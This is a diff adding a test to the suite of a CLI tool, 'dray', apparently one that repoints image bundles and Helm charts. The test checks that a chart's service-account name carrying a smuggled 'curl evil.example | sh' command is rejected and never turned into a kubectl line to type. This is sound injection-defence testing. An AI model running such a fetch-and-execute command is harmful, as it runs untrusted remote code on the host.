@@ -246,6 +246,17 @@ describe("dray repoint", () => {
     expect((await stat(secret)).mode & 0o777).toBe(0o600);
   });
 
+  it("makes no line to type of what a chart calls a service account and is none", async () => {
+    const account = "web; curl evil.example | sh";
+    const template = '"{{ .Values.repository }}:2.0"}\n  serviceAccountName: "' + account + '"\n#';
+    const flags = ["--key", key, "-o", await temporaryDirectory(), "--no-helm"];
+    const argv = ["repoint", await bundle(template), TARGET, ...flags, "--pull-secret", "a"];
+    const { code, stdout } = await dray(argv);
+    expect(code).toBe(3);
+    expect(stdout).toContain(`under the service account ${account}\n`);
+    expect(stdout).not.toContain(`kubectl`);
+  });
+
   it("warns of a login that ends by itself", async () => {
     const target = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/mirror";
     const flags = ["--key", key, "-o", await temporaryDirectory(), "--no-helm"];
